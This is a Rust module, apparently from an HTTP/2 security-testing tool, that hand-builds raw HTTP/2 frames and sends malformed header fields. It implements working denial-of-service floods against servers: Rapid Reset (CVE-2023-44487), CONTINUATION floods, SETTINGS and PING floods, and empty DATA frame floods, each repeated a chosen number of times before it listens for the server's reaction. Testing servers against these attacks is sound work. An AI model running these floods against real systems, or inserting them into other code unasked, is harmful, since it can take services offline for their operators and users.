//! HTTP/2 by hand (RFC 9113): header fields go out as they are written, however malformed, and frames in any number.

mod hpack;

use std::io::{ErrorKind, Read, Write};
use std::time::{Duration, Instant};

use crate::attack::wire::{Exchange, PATIENCE, Reply, Stream};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;
/// The largest frame that every peer takes.
const FRAME: usize = 16_384;
/// Silence after a flood that ends the listening.
const AFTERMATH: Duration = Duration::from_secs(2);

/// A request, or what is done instead of one.
#[derive(Clone, Debug, Default)]
pub(crate) struct Wish {
    /// In the order in which they are sent.
    pub(crate) fields: Vec<(String, String)>,
    pub(crate) body: Option<Vec<u8>>,
    /// A flood, and how often.
    pub(crate) attack: Option<(Attack, u32)>,
}

/// What is done to a connection in large numbers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Requests, each reset at once (CVE-2023-44487).
    RapidReset,
    /// A header block without end.
    Continuation,
    Settings,
    Ping,
    /// DATA frames without data.
    EmptyData,
}

impl Attack {
    pub(crate) fn named(name: &str) -> Option<Self> {
        Some(match name {
            "rapid-reset" => Self::RapidReset,
            "continuation-flood" => Self::Continuation,
            "settings-flood" => Self::Settings,
            "ping-flood" => Self::Ping,
            "empty-frames" | "empty-data" | "empty-data-flood" => Self::EmptyData,
            _ => return None,
        })
    }
}

/// Sends a request, or a flood, and reads what comes back.
pub(crate) fn exchange(stream: &mut Stream, wish: &Wish) -> Exchange {
    let began = Instant::now();
    let mut out = PREFACE.to_vec();
    // No dynamic table, no push, and windows that never close.
    let settings = [[0, 1, 0, 0, 0, 0], [0, 2, 0, 0, 0, 0], [0, 4, 0x7f, 0xff, 0xff, 0xff]].concat();
    out.extend(frame(SETTINGS, 0, 0, &settings));
    out.extend(frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes()));
    let block = hpack::written(&wish.fields);
    let (mut seen, patience) = match wish.attack {
        Some((attack, times)) => {
            let _ = stream.write_all(&out);
            flood(stream, attack, times, &block);
            (Exchange::default(), AFTERMATH)
        }
        None => {
            out.extend(request(&block, wish.body.as_deref()));
            let _ = stream.write_all(&out).and_then(|()| stream.flush());
            (Exchange::default(), PATIENCE)
        }
    };
    listen(stream, patience, wish.attack.is_some(), &mut seen);
    seen.elapsed = began.elapsed();
    seen
}

fn request(block: &[u8], body: Option<&[u8]>) -> Vec<u8> {
    let mut out = Vec::new();
    let mut parts = block.chunks(FRAME).peekable();
    let mut kind = HEADERS;
    while let Some(part) = parts.next() {
        let mut flags = if parts.peek().is_none() { END_HEADERS } else { 0 };
        if kind == HEADERS && body.is_none() {
            flags |= END_STREAM;
        }
        out.extend(frame(kind, flags, 1, part));
        kind = CONTINUATION;
    }
    let mut pieces = body.unwrap_or_default().chunks(FRAME).peekable();
    while let Some(piece) = pieces.next() {
        out.extend(frame(DATA, if pieces.peek().is_none() { END_STREAM } else { 0 }, 1, piece));
    }
    out
}

fn flood(stream: &mut Stream, attack: Attack, times: u32, block: &[u8]) {
    if attack == Attack::Continuation {
        let _ = stream.write_all(&frame(HEADERS, END_STREAM, 1, block));
    }
    if attack == Attack::EmptyData {
        let _ = stream.write_all(&frame(HEADERS, END_HEADERS, 1, block));
    }
    let filler = hpack::written(&[("x-filler".to_owned(), "a".repeat(1_000))]);
    let _ = stream.tcp().set_write_timeout(Some(PATIENCE));
    for number in 0..times {
        let id = 2 * number + 1;
        let piece = match attack {
            Attack::RapidReset => {
                let open = frame(HEADERS, END_HEADERS | END_STREAM, id, block);
                [open, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
            }
            Attack::Continuation => frame(CONTINUATION, 0, 1, &filler),
            Attack::Settings => frame(SETTINGS, 0, 0, &[]),
            Attack::Ping => frame(PING, 0, 0, &[0; 8]),
            Attack::EmptyData => frame(DATA, 0, 1, &[]),
        };
        if stream.write_all(&piece).is_err() {
            break;
        }
    }
    let _ = stream.flush();
}

fn frame(kind: u8, flags: u8, id: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut out = length.get(1..).unwrap_or_default().to_vec();
    out.extend([kind, flags]);
    out.extend(id.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// Reads frames until the answer is whole, the stream or the connection ends, or nothing more comes.
fn listen(stream: &mut Stream, patience: Duration, is_flood: bool, seen: &mut Exchange) {
    let mut held = Vec::new();
    let (mut reply, mut block) = (Reply::default(), Vec::new());
    let _ = stream.tcp().set_read_timeout(Some(patience));
    loop {
        while let Some((kind, flags, id, payload)) = next(&mut held) {
            match kind {
                SETTINGS if flags & ACK == 0 => drop(stream.write_all(&frame(SETTINGS, ACK, 0, &[]))),
                PING if flags & ACK == 0 => drop(stream.write_all(&frame(PING, ACK, 0, &payload))),
                GOAWAY => seen.stream_error |= payload.get(4..8).is_some_and(|code| code != [0; 4]),
                RST_STREAM if id == 1 && !is_flood => {
                    seen.stream_error = true;
                    return;
                }
                HEADERS | CONTINUATION if id == 1 => {
                    block.extend_from_slice(&payload);
                    if flags & END_HEADERS != 0 {
                        take_head(&mut reply, &hpack::read(&block).unwrap_or_default());
                        block.clear();
                    }
                }
                DATA if id == 1 => reply.body.extend_from_slice(&payload),
                _ => {}
            }
            if matches!(kind, HEADERS | DATA) && id == 1 && flags & END_STREAM != 0 && !is_flood {
                reply.is_whole = true;
                seen.replies.push(reply);
                return;
            }
        }
        let mut bytes = [0; 64 * 1024];
        match stream.read(&mut bytes) {
            Ok(0) => break,
            Ok(count) => held.extend_from_slice(bytes.get(..count).unwrap_or_default()),
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => return,
            Err(error) => {
                seen.handshake_failed = error.kind() == ErrorKind::InvalidData;
                break;
            }
        }
    }
    seen.closed = true;
    seen.stream_error = true;
    if reply.status != 0 {
        seen.replies.push(reply);
    }
}

fn take_head(reply: &mut Reply, fields: &[(String, String)]) {
    let status = fields.iter().find(|(name, _)| name == ":status").and_then(|(_, value)| value.parse().ok());
    match status {
        Some(100..200) => {}
        Some(status) => {
            reply.status = status;
            reply.headers = fields.iter().filter(|(name, _)| name != ":status").cloned().collect();
        }
        None => reply.trailers = fields.to_vec(),
    }
}

fn next(held: &mut Vec<u8>) -> Option<(u8, u8, u32, Vec<u8>)> {
    let [a, b, c, kind, flags, i, d, e, f] = *held.first_chunk::<9>()?;
    let length = usize::try_from(u32::from_be_bytes([0, a, b, c])).ok()?;
    let payload = held.get(9..9 + length)?.to_vec();
    held.drain(..9 + length);
    Some((kind, flags, u32::from_be_bytes([i & 0x7f, d, e, f]), payload))
}
